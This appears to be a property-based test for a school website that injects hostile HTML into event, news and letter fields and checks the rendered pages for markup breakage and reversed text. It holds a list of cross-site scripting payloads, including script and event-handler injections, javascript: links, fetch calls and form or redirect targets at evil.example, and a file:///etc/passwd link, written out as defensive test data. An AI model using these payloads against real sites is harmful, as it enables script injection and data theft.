import fc from "fast-check";
import { defineClass } from "./engine/fault-class.ts";
import { judge } from "./stage/judge.ts";
import { lists, untilAllSay } from "./stage/lists.ts";
import { judgeMarkup } from "./stage/markup.ts";
import { setStage } from "./stage/stage.ts";

const CODE = ["alert(1)", "fetch('//evil.example')", "document.body.remove()"];

const attack = fc.constantFrom(
  "<script>CODE</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT >",
  "</script><script>CODE</script>",
  "<!--<script>CODE</script>",
  "--><img src=x onerror=CODE>",
  "<img src=x onerror=CODE>",
  '"><svg onload=CODE>',
  "'><body onpageshow=CODE>",
  "<svg><script>CODE</script></svg>",
  "<svg><a xlink:href='javascript:CODE'><text>a</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=CODE>",
  "<noscript><p title='</noscript><img src=x onerror=CODE>'>",
  "<a href='javascript:CODE'>open</a>",
  "<a href='jav&#x09;ascript:CODE'>open</a>",
  "<a href=' \u0001javascript:CODE'>open</a>",
  "<a href='data:text/html,<script>CODE</script>'>open</a>",
  "<a href='vbscript:CODE'>open</a>",
  "<iframe srcdoc='<script>CODE</script>'></iframe>",
  "<object data='data:text/html,CODE'></object>",
  "<base href='//evil.example/'>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action='//evil.example'><input name=a>",
  "<style>*{display:none}</style>",
  "<p style='position:fixed;inset:0'>",
  "</p></div></main></body></html>",
  "</footer></section><table><tr><td>",
  "<div><div><div><ul><li><blockquote>",
  "<plaintext>",
  "<textarea>",
  "<title>",
  "<xmp>",
  "<template><script>CODE</script>",
  "&lt;script&gt;CODE&lt;/script&gt;",
  "&#60;script&#62;CODE&#60;/script&#62;",
  "{{constructor.constructor('CODE')()}}",
  "\u202eolleh\u2066",
  "\u0000<\u0000script>",
  "<p lang='\"><script>CODE</script>'>",
  "<<p>script>CODE<</p>/script>",
);
const piece = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .tuple(attack, fc.constantFrom(...CODE))
      .map(([text, code]) => text.replace("CODE", code)),
  },
  fc.string({ unit: "grapheme", maxLength: 20 }),
  fc.constantFrom("<p>", "</p>", "<em>", "</ul>", "<h2>", "<", ">", '"', "'", "&", "`"),
);
const hostile = fc.array(piece, { minLength: 1, maxLength: 4 }).map((pieces) => pieces.join(""));
const link = fc.oneof(
  hostile,
  fc.constantFrom(
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/1",
    "file://localhost/etc/passwd",
    "//evil.example/a",
    "/\\evil.example",
    'https://evil.example/"onmouseover=alert(1) a="',
  ),
);

const PLAIN = [
  "title",
  "description",
  "venue",
  "time",
  "name",
  "class",
  "stream",
  "breakfast",
  "lunch",
  "dinner",
  "_id",
];
const LINKS = ["url", "attachments", "images", "image"];

const round = fc.record({
  texts: fc.array(hostile, { minLength: 24, maxLength: 24 }),
  links: fc.array(link, { minLength: 10, maxLength: 10 }),
  letter: hostile,
});

export const f07 = defineClass({
  id: "F7",
  what: "Texts and links with scripts, open tags, turned letters",
  aCase: "a hostile text or link in some field",
  values: round,
  casesOf: ({ texts, links }) => texts.length + links.length + 1,
  whole: 15,
  few: 2,
  setUp: async (scene) => {
    const { host, site } = await setStage(scene);
    return async ({ texts, links, letter }, tell, index) => {
      const word = `Word${index}x`;
      let used = 0;
      const spoil = (record: Record<string, unknown>) => {
        const spoilt: Record<string, unknown> = { ...record };
        for (const key of Object.keys(record)) {
          used += 1;
          if (PLAIN.includes(key)) spoilt[key] = `${texts[used % texts.length]} ${record[key]}`;
          if (LINKS.includes(key)) spoilt[key] = key === "url" ? links[used % links.length] : links;
          if (key === "message") spoilt[key] = `<p>Dear ${letter} parents</p><p>${word}</p>`;
        }
        return spoilt;
      };
      for (const { path, make } of lists) {
        const [hurt, tame] = [spoil(make(word)), make(`${word}tame`)];
        host.give(path, [
          ...("date" in hurt || "class" in hurt
            ? [{ ...hurt, class: make(word)["class"] ?? hurt["class"] }]
            : [hurt]),
          tame,
        ]);
      }
      for (const path of await untilAllSay(site, word, 6_000)) tell(`${path} does not say ${word}`);
      const pages = new Set(lists.flatMap(({ page }) => page ?? []));
      const records = await recordPages(site.ask);
      for (const path of [...pages, "/SubGallery", "/search?q=word", "/newsletter", ...records]) {
        const page = await site.ask(path);
        for (const wrong of judge(path, page, [200, 404])) tell(wrong);
        for (const wrong of judgeMarkup(path, page.text)) tell(wrong);
      }
      const letters = await site.ask("/principal-message");
      // What stands in an attribute turns nothing.
      const read = letters.text.replace(/<[^>]*>/g, "");
      if (/[\u202a-\u202e\u2066-\u2069]/.test(read)) tell("a letter turns the reading direction");
      if (!letters.text.includes(word)) tell("the end of the letter is gone");
      host.received.length = 0;
    };
  },
});

type Ask = (path: string) => Promise<{ text: string }>;

/** The pages of single records, as the lists link to them. */
async function recordPages(ask: Ask): Promise<string[]> {
  const links: string[] = [];
  for (const path of ["/Events", "/News"]) {
    const { text } = await ask(path);
    const [, address] = new RegExp(`href="(${path}/[^"]+)"`).exec(text) ?? [];
    if (address) links.push(address.replaceAll("&amp;", "&"));
  }
  return links;
}
